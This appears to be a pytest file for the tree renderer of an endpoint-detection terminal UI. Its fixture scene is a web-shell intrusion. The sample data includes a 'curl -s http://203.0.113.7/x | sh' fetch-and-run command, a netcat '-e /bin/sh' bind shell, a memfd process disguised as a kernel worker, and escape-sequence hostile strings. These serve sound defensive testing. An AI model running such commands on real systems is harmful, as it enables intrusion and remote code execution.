"""Rows of the tree as text art, and the styles that carry a meaning."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.cells import cell_len

from edr_tui.model.alert import AlertState, Severity
from edr_tui.model.process import Exit, User
from edr_tui.ui.render.tree import new_for, render_row
from edr_tui.ui.tree_rows import TreeRows
from tests.ui.builders import NOW, SECOND, alert, process
from tests.ui.render.looks import LOOK, looks


def art(rows: TreeRows, width: int, now: int = NOW) -> list[str]:
    strips = [render_row(row, width, LOOK, now) for row in rows.rows(0, len(rows))]
    assert {strip.cell_length for strip in strips} <= {width}
    assert {sum(cell_len(segment.text) for segment in strip) for strip in strips} <= {width}
    return [strip.text.rstrip() for strip in strips]


def one(told: object, width: int = 80, now: int = NOW) -> str:
    rows = TreeRows()
    rows.apply([told])  # type: ignore[list-item]
    return art(rows, width, now)[0]


def ended(at: float, **how: int | bool) -> Exit:
    return Exit(at_ns=NOW - 3600 * SECOND + round(at * SECOND), **how)  # type: ignore[arg-type]


def web_shell() -> TreeRows:
    """The scene of the design's picture."""
    rows = TreeRows()
    p, now = process, 3598
    rows.apply(
        [
            p("systemd", pid=1, args=("/sbin/init",)),
            p("sshd", "systemd", pid=901, args=("sshd: /usr/sbin/sshd -D",), start=1),
            p("sshd1", "sshd", name="sshd", pid=902, args=("sshd: ana",), start=2),
            p("nginx", "systemd", pid=811, args=("nginx: master process /usr/sbin/nginx",), start=3),
            p(
                "n2",
                "nginx",
                name="nginx",
                pid=812,
                args=("nginx: worker process",),
                user="www-data",
                start=4,
            ),
            p(
                "sh",
                "n2",
                pid=4711,
                args=("sh", "-c", "curl -s http://203.0.113.7/x | sh"),
                user="www-data",
                start=3597,
                snapshot=False,
            ),
            p(
                "curl",
                "sh",
                pid=4712,
                args=("curl", "-s", "http://203.0.113.7/x"),
                user="www-data",
                start=3597,
                ended=ended(3597.4, code=0),
                snapshot=False,
            ),
            p("sh2", "sh", name="sh", pid=4713, args=("sh",), user="www-data", start=now, snapshot=False),
            p(
                "id",
                "sh2",
                pid=4716,
                args=("id",),
                user="www-data",
                start=now,
                ended=ended(now + 0.001, code=0),
                snapshot=False,
            ),
            p(
                "kw",
                "sh2",
                name="kworkerds",
                pid=4719,
                args=("[kworker/0:1]",),
                user="www-data",
                executable="/memfd:x (deleted)",
                start=3599,
                snapshot=False,
            ),
            p("cron", "systemd", pid=644, args=("/usr/sbin/cron", "-f"), start=5),
        ]
    )
    rows.collapse("sshd")
    chain = ["systemd", "nginx", "n2", "sh"]
    rows.apply_alerts(
        [
            alert("web", chain, start="nginx", techniques=("T1505.003",), evidence=("curl -s",)),
            alert("pipe", [*chain, "curl"], start="sh", level=Severity.MEDIUM),
            alert("mem", [*chain, "sh2", "kw"], start="kw"),
        ]
    )
    return rows


def test_the_picture() -> None:
    assert art(web_shell(), 100) == [
        "  ▾ systemd 1  root  /sbin/init",
        "  ├─▸ sshd 901  root  'sshd: /usr/sbin/sshd -D'  +1",
        "▌ ├─▾ nginx 811  root  'nginx: master process /usr/sbin/nginx'",
        "▌ │ └─▾ nginx 812  www-data  'nginx: worker process'",
        "▌ │   └─▾ ‼ sh 4711  www-data  sh -c 'curl -s http://203.0.113.7/x | sh'  HIGH  T1505.003  new 3s",
        "▌ │     ├── ! curl 4712  www-data  curl -s http://203.0.113.7/x  MEDIUM  † 0 0.4s",
        "▎ │     └─▾ sh 4713  www-data  sh  new 2s",
        "▎ │       ├── id 4716  www-data  id  † 0 1ms",
        "▌ │       └── ‼ kworkerds 4719  www-data  '[kworker/0:1]'  HIGH  memfd  new 1s",
        "  └── cron 644  root  /usr/sbin/cron -f",
    ]


def test_the_picture_in_fifty_columns() -> None:
    assert art(web_shell(), 50) == [
        "  ▾ systemd 1  root  /sbin/init",
        "  ├─▸ sshd 901  root  'sshd: /usr/sbin/sshd -…  +1",
        "▌ ├─▾ nginx 811  root  'nginx: master process /us…",
        "▌ │ └─▾ nginx 812  www-data  'nginx: worker proce…",
        "▌ │   └─▾ ‼ sh 4711  sh -c 'curl -s…  HIGH  new 3s",
        "▌ │     ├── ! curl 4712  curl -…  MEDIUM  † 0 0.4s",
        "▎ │     └─▾ sh 4713  www-data  sh  new 2s",
        "▎ │       ├── id 4716  www-data  id  † 0 1ms",
        "▌ │       └── ‼ kworkerds 4719  '[kworker/0…  HIGH",
        "  └── cron 644  root  /usr/sbin/cron -f",
    ]


def test_the_picture_in_twenty_columns() -> None:
    assert art(web_shell(), 20) == [
        " ▾ systemd 1  /sbin…",
        " ├─▸ sshd 901  +1",
        "▌├─▾ nginx 811  'ng…",
        "▌│ └─▾ nginx 812",
        "▌│   └─▾ ‼ sh 4711",
        "▌…3 ├── ! curl 4712",
        "▎│     └─▾ sh 4713",
        "▎…3   ├── id 4716",
        "▌…─ ‼ kworkerds 4719",
        " └── cron 644  /usr…",
    ]


@pytest.mark.parametrize(("width", "shown"), [(9, "▌sh 4711"), (6, "▌sh"), (5, "sh"), (2, "sh"), (1, "…")])
def test_hardly_any_columns(width: int, shown: str) -> None:
    rows = web_shell()
    assert art(rows, width)[4] == shown


def test_no_columns() -> None:
    assert art(web_shell(), 0) == [""] * 10


def test_every_meaning_has_a_style() -> None:
    rows = web_shell()
    strips = {row.process.entity_id: render_row(row, 110, LOOK, NOW) for row in rows.rows(0, 99)}
    assert looks(strips["sh"]) == [
        ("▌", "bar"),
        ("│   └─", "guide"),
        ("▾", "arrow"),
        ("‼", "high"),
        ("sh", "chain"),
        ("4711", "pid"),
        ("www-data", "user"),
        ("sh", "command"),
        ("-c", "command"),
        ("'curl -s http://203.0.113.7/x | sh'", "evidence"),
        ("HIGH", "high"),
        ("T1505.003", "technique"),
        ("new 3s", "new"),
    ]
    assert ("id", "descendant") in looks(strips["id"])
    assert ("† 0 1ms", "exited") in looks(strips["id"])
    assert ("memfd", "tag") in looks(strips["kw"])
    assert ("cron", "name") in looks(strips["cron"])
    assert ("+1", "badge") in looks(strips["sshd"])
    assert ("MEDIUM", "medium") in looks(strips["curl"])


def test_only_the_arrow_toggles() -> None:
    strip = render_row(web_shell().row(4), 80, LOOK, NOW)
    assert [segment.text for segment in strip if segment.style and segment.style.meta.get("arrow")] == ["▾ "]


def test_an_acknowledged_alert_leaves_a_tick() -> None:
    rows = web_shell()
    chain = ["nginx", "n2", "sh"]
    rows.apply_alerts(
        [alert("web", chain, state=AlertState.ACKNOWLEDGED, techniques=("T1505.003",))],
        ["pipe", "mem"],
    )
    assert art(rows, 92)[4] == (
        "  │   └─▾ ✓ sh 4711  www-data  sh -c 'curl -s http://203.0.113.7/x | sh'  T1505.003  new 3s"
    )
    assert ("✓", "acknowledged") in looks(render_row(rows.row(4), 90, LOOK, NOW))


def test_a_low_level_is_a_tag_at_the_end() -> None:
    rows = TreeRows()
    rows.apply([process("python3", pid=7, args=("python3", "-q"))])
    rows.apply_alerts([alert("low", ["python3"], level=Severity.LOW, techniques=("T1059.006",))])
    assert art(rows, 60) == ["    python3 7  root  python3 -q  · low  T1059.006"]


def test_a_badge_tells_what_came_and_how_bad_it_is() -> None:
    rows = web_shell()
    rows.collapse("systemd")
    rows.apply([process("x", "cron", start=9)])
    assert art(rows, 60) == ["  ▸ systemd 1  root  /sbin/init  ‼ +11 1 new"]


@pytest.mark.parametrize(
    ("how", "shown"),
    [
        ({"code": 0}, "† 0 2.0s"),
        ({"code": 127}, "† 127 2.0s"),
        ({"signal": 9}, "† SIGKILL 2.0s"),
        ({"signal": 30}, "† signal 30 2.0s"),
        ({}, "† exit ? 2.0s"),
        ({"seen": False}, "† exit not seen 2.0s"),
    ],
)
def test_ends(how: dict[str, int], shown: str) -> None:
    assert one(process("x", pid=5, args=("x",), ended=ended(2, **how))) == f"    x 5  root  x  {shown}"


def test_unknown_is_never_empty() -> None:
    assert one(process("a", name="", pid=5, user=None)) == "    ? 5  ?  ?"


def test_a_kernel_thread_is_told_from_what_only_looks_like_one() -> None:
    assert one(process("k", name="kworker/0:1", pid=9, kernel_thread=True)) == (
        "    kworker/0:1 9  root  kernel thread"
    )


def test_a_second_look() -> None:
    assert one(process("\u0455shd", pid=1, args=(), executable="/tmp/x (deleted)", folded=12)) == (
        "    \u0455shd 1  root  12 between  deleted  mixed scripts"
    )
    setuid = replace(process("sudo", pid=1, user="ana", args=("sudo",)), effective_user=User(name="root"))
    assert one(setuid) == "    sudo 1  ana→root  sudo"


def test_a_command_line_without_arguments_is_shown_as_it_is() -> None:
    rows = TreeRows()
    rows.apply([process("a", pid=1, command_line="cmd /c  ENC\x1b[2J")])
    rows.apply_alerts([alert("x", ["a"], evidence=("*enc*",))])
    strip = render_row(rows.row(0), 60, LOOK, NOW)
    assert strip.text.rstrip() == r"▌   ‼ a 1  root  cmd /c  ENC\x1b[2J  HIGH"
    assert ("ENC", "evidence") in looks(strip)
    assert (r"\x1b", "escaped") in looks(strip)


def test_evidence_over_several_arguments() -> None:
    rows = TreeRows()
    rows.apply([process("nc", pid=1, args=("nc", "-l", "-e", "/bin/sh", "x"))])
    rows.apply_alerts([alert("x", ["nc"], evidence=("-E /bin",))])
    found = [text for text, look in looks(render_row(rows.row(0), 60, LOOK, NOW)) if look == "evidence"]
    assert found == ["-e", "/bin/sh"]


def test_hostile_text_stays_in_its_cells() -> None:
    rows = TreeRows()
    rows.apply(
        [
            process(
                "a", name="a\nb\x1b]0;t\x07", pid=1, args=("\u202egpj.exe", "\u0301" * 500), user="r\toot"
            ),
            process("b", name="日本語" * 20, pid=2, args=("日本", "한" * 50), start=1),
        ]
    )
    assert art(rows, 70) == [
        r"    a\nb\x1b]0;t\x07 1  r\toot  $'\u202egpj.exe' $'\u0301\u0301\u0301…",
        "    日本語日本語日本語日本語日本語日本語日本語日本語日本語日本語日… 2",
    ]


def test_a_filter_dims_what_is_only_there_for_others() -> None:
    rows = web_shell()
    rows.set_filter(lambda told: told.name == "cron")
    strips = [render_row(row, 60, LOOK, NOW) for row in rows.rows(0, 9)]
    assert [strip.text.rstrip() for strip in strips] == [
        "  ▾ systemd 1  root  /sbin/init",
        "  └── cron 644  root  /usr/sbin/cron -f",
    ]
    assert {look for _, look in looks(strips[0])} == {"arrow", "aside"}


def test_new_ends_and_snapshots_are_never_new() -> None:
    told = process("a", snapshot=False, start=3595.5)
    assert new_for(told, NOW) == 4
    assert new_for(told, NOW + SECOND) is None
    assert new_for(told, NOW - 10 * SECOND) is None
    assert new_for(replace(told, in_first_snapshot=True), NOW) is None
    assert new_for(replace(told, repaired=True), NOW) is None
    assert new_for(replace(told, exit=Exit(at_ns=NOW)), NOW) is None


def test_deep_rows_keep_their_name() -> None:
    rows = TreeRows()
    rows.apply([process(f"p{n}", f"p{n - 1}" if n else None, pid=n, start=n) for n in range(3_000)])
    assert [render_row(rows.row(index), 40, LOOK, NOW).text.rstrip() for index in (9, 70, 2_999)] == [
        "  …3           └─▾ p9 9  root  ?",
        "  …64           └─▾ p70 70  root  ?",
        "  …2994         └── p2999 2999  root  ?",
    ]
    for index in (0, 5, 9, 10, 11, 63, 64, 65, 66, 100, 2_999):
        for width in (10, 16, 24, 40, 80, 200):
            text = render_row(rows.row(index), width, LOOK, NOW).text
            assert f"p{index}" in text, (index, width, text)


@given(
    st.integers(0, 130),
    st.integers(0, 40),
    st.text(max_size=20),
    st.lists(st.text(max_size=20), max_size=4),
    st.text(max_size=10),
    st.sampled_from([*Severity, None]),
)
def test_a_row_is_exactly_as_wide_as_asked(
    width: int, depth: int, name: str, args: list[str], user: str, level: Severity | None
) -> None:
    rows = TreeRows()
    rows.apply([process(f"p{n}", f"p{n - 1}" if n else None, pid=n, start=n) for n in range(depth)])
    last = f"p{depth - 1}" if depth else None
    rows.apply([process("x", last, name=name, args=tuple(args), user=user, start=depth, snapshot=False)])
    if level is not None:
        rows.apply_alerts([alert("a", ["x"], level=level, techniques=("T1", "T2", "T3"), evidence=(name,))])
    strip = render_row(rows.row(depth), width, LOOK, NOW)
    assert strip.cell_length == width == sum(cell_len(segment.text) for segment in strip)
    assert strip.text.isprintable()
